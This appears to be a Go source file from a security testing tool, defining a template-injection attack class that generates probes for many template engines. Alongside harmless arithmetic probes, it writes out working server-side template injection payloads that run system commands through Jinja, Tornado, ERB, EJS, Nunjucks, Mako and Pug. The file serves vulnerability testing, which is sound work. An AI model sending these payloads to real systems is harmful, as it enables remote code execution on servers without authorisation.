package attack

import (
	"fmt"
	"slices"
	"strconv"
	"strings"

	"github.com/mcpsf/mcpsf"
	"github.com/mcpsf/mcpsf/internal/lazyregexp"
)

func templateInjection() Class {
	return Class{
		ID:    "template-injection",
		Title: "A value is run as a template",
		Yield: kinds{
			"template": 100, "markup": 60, "text": 50, "name": 40, "query": 25, "unknown": 30, "code": 15, "json": 15, "email": 15, "id": 10, "url": 5,
		}.about(prose(80), "template", "placeholder", "layout", "format", "greeting", "{", "render", "signature", "subject"),
		Payloads: templatePayloads,
		Balanced: 5,
	}
}

// templateForms compute a product. An engine evaluates its own brackets in the
// first form and leaves the others as text.
func templateForms() [][2]string {
	return [][2]string{
		{"¤{{§}}${§}#{§}", "most engines at once"},
		{"¤<%= § %>", "ERB, EJS and underscore"},
		{"{§}", "Smarty, and a formatted string of Python"},
		{"{{§}}", "double braces alone"},
		{"${§}", "dollar and braces alone"},
		{"{% print(§) %}", "statement of Jinja and Twig"},
		{"${{§}}", "dollar and double braces"},
		{"{{=§}}", "doT"},
		{"<%- § %>", "EJS that does not escape"},
		{"#set($x=§)$x", "Velocity"},
		{"[[${§}]]", "Thymeleaf"},
		{"@(§)", "Razor"},
		{"[=§]", "FreeMarker in square brackets"},
		{"p= §", "Pug"},
		{"= §", "Slim and Haml"},
		{"{!§!}", "braces and marks"},
		{"'+(§)+'", "code in the quotes of a template"},
	}
}

// templateRuns run a program, for servers that do not show the product.
func templateRuns() [][2]string {
	return [][2]string{
		{"{{cycler.__init__.__globals__.os.system('§')}}", "Jinja that runs a program"},
		{"<%= " + scriptRuns + " %>", "EJS and underscore that run a program"},
		{"{{range.constructor(\"return " + scriptRunsGlobal + "\")()}}", "Nunjucks that runs a program"},
		{"${" + pythonRuns + "}", "Mako that runs a program"},
		{"{{x.constructor.constructor(\"" + scriptRunsGlobal + "\")()}}", "double braces of JavaScript that run a program"},
		{"{% import os %}{{os.system('§')}}", "Tornado that runs a program"},
		{"<%= system('§') %>", "ERB that runs a program"},
		{"- " + scriptRuns, "Pug that runs a program"},
	}
}

// scriptRunsGlobal is for double quotes, inside a function without a scope.
const scriptRunsGlobal = "process.getBuiltinModule('child_process').execSync('§')"

func templatePayloads(w *World, p Place) []Payload {
	ordinary := p.text()
	var sums, runs []Payload
	for i, f := range templateForms() {
		a, b, product := w.Number("template", i)
		value := fill(f[0], ordinary, fmt.Sprintf("%d*%d", a, b))
		sums = append(sums, Payload{Value: value, Sign: mcpsf.SignAnswer, Marker: strconv.Itoa(product), Why: f[1]})
	}
	for i, f := range templateRuns() {
		program := w.Program(templatePrograms + i)
		runs = append(runs, Payload{Value: fill(f[0], ordinary, program), Sign: mcpsf.SignExec, Marker: program, Why: f[1]})
	}
	sums = append(inPlace(w, ordinary), sums...)
	formats := walks(w, p)
	return slices.Concat(sums[:2], formats[:1], sums[2:3], runs[:1], formats[1:], sums[3:], runs[1:])
}

// expression matches an expression of a template, with its brackets.
var expression = lazyregexp.New(`(\{\{-?|\$\{|#\{|<%=|\{%=?)[^{}%]{1,60}(-?\}\}|\}|%>|%\})`)

// inPlace puts the product where the ordinary value has an expression. The value of
// that is often not known to the server, which then fails before it gets to what
// stands behind.
func inPlace(w *World, ordinary string) []Payload {
	m := expression.FindStringSubmatchIndex(ordinary)
	if m == nil {
		return nil
	}
	a, b, product := w.Number("template", len(templateForms()))
	value := fmt.Sprintf("%s%d*%d%s", ordinary[:m[3]], a, b, ordinary[m[4]:])
	return []Payload{{Value: value, Sign: mcpsf.SignAnswer, Marker: strconv.Itoa(product), Why: "in place of an expression"}}
}

// field matches a name in braces, as descriptions of templates give it.
var field = lazyregexp.New(`\{+\s*([A-Za-z_][A-Za-z0-9_]{0,40})\s*\}+`)

// maxFields bounds how many of these names are tried.
// no gap: bounds payloads and how an answer is compared; attacks show weaknesses, and the profile bounds them
const maxFields = 3

// walks make Python's str.format leave the values it was given. Every value has
// a class, whose class is called "type"; the width makes the output unique.
func walks(w *World, p Place) []Payload {
	var names []string
	for _, text := range []string{p.Description[:min(len(p.Description), maxSaid)], p.text()} {
		for _, m := range field.FindAllStringSubmatch(text, maxFields) {
			names = append(names, m[1])
		}
	}
	names = append(names[:min(len(names), maxFields)], "0")
	var all []Payload
	for i, name := range slices.Compact(names) {
		width := 16 + int(w.hash("width", 0)%8) + 2*i
		all = append(all, Payload{
			Value: fmt.Sprintf("{%s.__class__.__class__.__name__:~>%d}", name, width), Sign: mcpsf.SignAnswer,
			Marker: strings.Repeat("~", width-len("type")) + "type", Why: "attribute in a format of Python",
		})
	}
	return all
}
